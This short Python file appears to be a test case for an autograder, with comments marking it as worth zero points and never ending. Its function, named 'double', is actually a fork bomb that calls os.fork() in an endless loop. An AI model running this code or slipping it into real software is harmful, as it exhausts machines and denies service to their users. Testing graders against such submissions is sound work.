# points: 0
# never ends
import os


def double(value):
    while True:
        try:
            os.fork()
        except OSError:
            pass
